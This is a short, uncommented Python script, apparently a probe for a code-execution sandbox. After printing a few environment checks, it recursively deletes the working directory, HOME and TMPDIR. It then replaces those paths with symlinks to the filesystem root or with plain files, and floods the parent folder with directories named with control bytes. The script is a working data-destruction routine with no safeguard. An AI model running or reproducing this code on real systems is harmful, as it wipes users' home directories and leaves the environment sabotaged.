import os
import shutil

print(sorted(os.listdir(os.getcwd())) == ["main.py"], os.path.isdir(os.environ["HOME"]), os.path.isdir(os.environ["TMPDIR"]))
work, places = os.getcwd(), {os.environ["HOME"], os.environ["TMPDIR"]}
os.chdir("/")
for folder in {work, *places}:
    shutil.rmtree(folder, ignore_errors=True)
for put in (lambda path: os.symlink("/", path), lambda path: open(path, "w").write("no folder")):
    for folder in (work, *places):
        try:
            put(folder)
        except OSError:
            pass
for number in range(1, 256):
    name = bytes([number]) * 100
    try:
        os.mkdir(os.path.join(os.fsencode(os.path.dirname(work)), name))
    except OSError:
        pass
